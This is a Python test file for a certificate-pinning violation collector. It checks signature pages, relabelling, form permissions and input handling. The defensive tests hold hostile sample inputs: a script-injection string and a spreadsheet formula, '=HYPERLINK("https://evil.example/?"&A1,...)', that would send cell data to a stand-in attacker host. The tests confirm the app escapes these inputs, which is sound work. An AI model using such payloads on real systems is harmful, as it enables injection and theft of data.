"""A signature's page: why, how sure, what to do; and where a person says that it is something else."""

from __future__ import annotations

import csv
import io
from datetime import timedelta
from typing import Any

import pytest

from collector.web.api.export import cell
from tests.conftest import Clock
from tests.make import NOON, chain, ios_pem, issue, neutral, okhttp_text, trustkit_ios
from tests.watch.conftest import serve, tick
from tests.watch.test_count import report
from tests.web.conftest import Site
from tests.web.firing import nobody_watches
from tests.web.reading import ATTACK, LARGEST, look, send

__all__ = ["nobody_watches"]
HOST = "api.example.com"
FIRST = "the first operator's own token"


async def only(site: Site) -> str:
    await tick(site, "fold")
    (row,) = await site.pool.fetch("SELECT encode(id, 'hex') AS id FROM signature")
    return f"/signatures/{row['id']}"


async def rotated(site: Site) -> tuple[str, str]:
    """To a chain that 24 installs refuse; they pin the one before, and most of them a backup. The page
    of the signature, and the backup pin."""
    before, backup = issue(HOST, chain()[1], sans=(HOST,)), issue("backup")
    await serve(site.pool, HOST, (before, chain()[1]), last=NOON - timedelta(hours=3))
    await serve(site.pool, HOST, chain()[:2], first=NOON - timedelta(minutes=2))
    for number in range(24):
        pins = [
            f'pin-sha256="{before.pin}"',
            *([f'pin-sha256="{backup.pin}"'] if number < 18 else []),
        ]
        await site.post(report(number, known_pins=pins), address=f"198.51.{number}.7")
    page = await only(site)
    await tick(site, "causes")
    wanted = {"host": HOST, "pins": [f"sha256/{backup.pin}"]}
    await site.call("POST", "/api/v1/pin-sets", {"project": "default", "sets": [wanted]})
    proof = {"project": "default", "pem": backup.pem}
    answer = await site.call("POST", "/api/v1/pins/proofs", proof)
    assert answer.status == 201, answer.json
    return page, f"sha256/{backup.pin}"


async def test_no_such_signature(site: Site) -> None:
    for path in ("/signatures/" + "0" * 32, "/signatures/x", "/signatures/%00"):
        assert (await site.get(path))[0] == 404


async def test_it_says_why_and_what_to_do(site: Site) -> None:
    place, backup = await rotated(site)
    page = await look(site, place)
    for text in (
        "api.example.com: a trusted chain, but none of the client's pins is in it", "24 violations from",
        "24 installs on 24 networks of 1 operator.", "own rotation", "high confidence", "rotated at",
        "what was served before", "Serve the previous certificate again: it is valid until",
        f"Or serve a certificate for the backup pin {backup}", "its key is proven to be ours",
        "which 75 % of those that report hold", "TrustKit on iOS takes new pins only at the next launch",
        f"pinfall probe {HOST}", chain()[1].pin_hex, "CN=Pinfall Test Intermediate", "com.example.wallet",
    ):  # fmt: skip
        assert text in page.text, text
    assert f"/hosts/default/{HOST}" in page.links
    assert "/api/v1/violations?signature=" + place.removeprefix("/signatures/") in page.links
    assert place in (await look(site, "/")).links
    assert "own rotation" in (await look(site, "/")).text


async def test_one_that_was_not_judged_yet(site: Site) -> None:
    await site.post(neutral(), address="198.51.1.7")
    page = await look(site, await only(site))
    for text in (
        "not judged yet",
        "it is within a minute",
        "The cause is not known",
        "None that is proven",
    ):
        assert text in page.text, text


async def test_a_person_says_that_it_is_something_else(site: Site, clock: Clock) -> None:
    place, _ = await rotated(site)
    clock.now = NOON + timedelta(hours=1)
    page = await send(
        site, place, f"{place}/relabel", label="wrong_pins", note="a bad release, 8.24.1"
    )
    assert page.status == 200
    for text in ("wrong pins", "as this machine says; the rules say own rotation", "Relabelled 1 times",
                 "2026-11-20 13:00:00 UTC this machine: wrong pins (was own rotation). a bad release, 8.24.1",
                 "Release 8.24.1 pins keys that api.example.com never served"):  # fmt: skip
        assert text in page.text, text
    told = (await site.call("GET", f"/api/v1{place}")).json
    assert (told["label"], told["relabels"][0]["note"]) == ("wrong_pins", "a bad release, 8.24.1")
    assert (await site.call("GET", "/api/v1/audit")).json["audit"][0][
        "action"
    ] == "signature.relabelled"
    page = await send(site, place, f"{place}/relabel", label="", note="it was a rotation after all")
    assert "the rules say" not in page.text.replace("as the rules say", "")
    assert "Relabelled 2 times" in page.text


@pytest.mark.parametrize(("fields", "words"), [
    ({"label": "wrong_pins", "note": " "}, "say why"), ({"label": "nonsense", "note": "n"}, "label: should be"),
    ({"label": "wrong_pins", "note": "n" * 301}, "note: should be at most 300"),
    ({"label": ATTACK, "note": "n"}, "label: should be"), ({"note": ATTACK}, "note: should be at most"),
])  # fmt: skip
async def test_mistakes_are_told_on_the_page(
    site: Site, fields: dict[str, str], words: str
) -> None:
    await site.post(neutral(), address="198.51.1.7")
    place = await only(site)
    page = await send(site, place, f"{place}/relabel", **fields)
    assert (page.status, words in page.text) == (400, True)
    assert (await site.call("GET", f"/api/v1{place}")).json["relabels"] == []


@pytest.mark.parametrize("chosen", [{"operator_token": FIRST}], ids=["token"])
async def test_who_only_reads_has_no_form(site: Site, chosen: dict[str, Any]) -> None:
    await site.post(neutral(), address="198.51.1.7")
    place = await only(site)
    viewer = await site.token("viewer", "viewer", by=FIRST)
    assert (await look(site, place, viewer)).fields == []
    assert (await look(site, place, FIRST)).fields == [
        "label",
        "note",
        "silence-length",
        "silence-until",
        "silence-note",
    ]


CHOSEN = ("app-bundle-id", "app-version", "app-platform", "app-platform-version", "trustkit-version",
          "date-time", "noted-hostname")  # fmt: skip


def attacks() -> list[Any]:
    """Each text of a report that somebody else chooses."""
    ios = {**trustkit_ios(), **dict.fromkeys(CHOSEN, ATTACK), ATTACK: ATTACK}
    other = neutral(error={"message": ATTACK, "type": ATTACK}, sdk={"name": ATTACK, "version": ATTACK},
                    app={"id": ATTACK, "version": ATTACK}, os={"name": ATTACK, "version": ATTACK},
                    device={"model": ATTACK}, platform=ATTACK)  # fmt: skip
    return [ios, other, okhttp_text().replace("CN=Pinfall Test Root", ATTACK)]


@pytest.mark.parametrize("number", range(3), ids=["trustkit", "neutral", "okhttp"])
async def test_nothing_of_a_report_acts(site: Site, number: int) -> None:
    assert (await site.post(attacks()[number], address="127.0.0.1")).json["accepted"] == 1
    await tick(site, "fold", "causes")
    place = await only(site)
    for path in (place, f"/hosts/default/{HOST}", "/"):
        page = await look(site, path)
        assert "7*7" in page.text or path != place
    assert "<script>alert(1)</script>" in (await look(site, place)).text


@pytest.mark.parametrize("number", range(3), ids=["trustkit", "neutral", "okhttp"])
async def test_nothing_of_a_report_is_a_formula(site: Site, number: int) -> None:
    formula = '=HYPERLINK("https://evil.example/?"&A1,"x")'
    text = attacks()[number]
    if isinstance(text, dict):
        text = {k: formula if v == ATTACK else v for k, v in text.items() if k != ATTACK}
        if number == 1:
            text |= {"app": {"id": formula, "version": "@SUM(1)"}, "platform": "-1+1"}
    else:
        text = text.replace(ATTACK, formula)
    assert (await site.post(text, address="127.0.0.1")).json["accepted"] == 1
    for name in ("violations", "signatures", "certificates"):
        status, body = await site.get(f"/api/v1/{name}?format=csv")
        assert status == 200
        for row in csv.reader(io.StringIO(body)):
            assert not [
                c for c in row if c.lstrip(" ").startswith(("=", "+", "-", "@", "\t", "\r"))
            ]
    assert cell(formula).startswith("'")


async def test_the_page_stays_small(site: Site) -> None:
    certificates = [
        issue(f"{n}{'c' * 60}", sans=tuple(f"{m}{'s' * 55}.example.com" for m in range(20)))
        for n in range(8)
    ]
    for n in range(20):
        body = trustkit_ios(
            validated_certificate_chain=[ios_pem(one.der) for one in certificates],
            app_vendor_id=f"7C1B6F0E-6B5D-4A51-9E0C-{n:012X}", app_bundle_id="b" * 300,
            known_pins=[f'pin-sha256="{issue(str(m)).pin}"' for m in range(10)],
        )  # fmt: skip
        body |= {f"extra{m}": "e" * 300 for m in range(10)}
        assert (await site.post(body, address=f"198.51.{n}.7")).json["accepted"] == 1
    await tick(site, "causes")
    page = await look(site, await only(site))
    assert len(page.html.encode()) < LARGEST
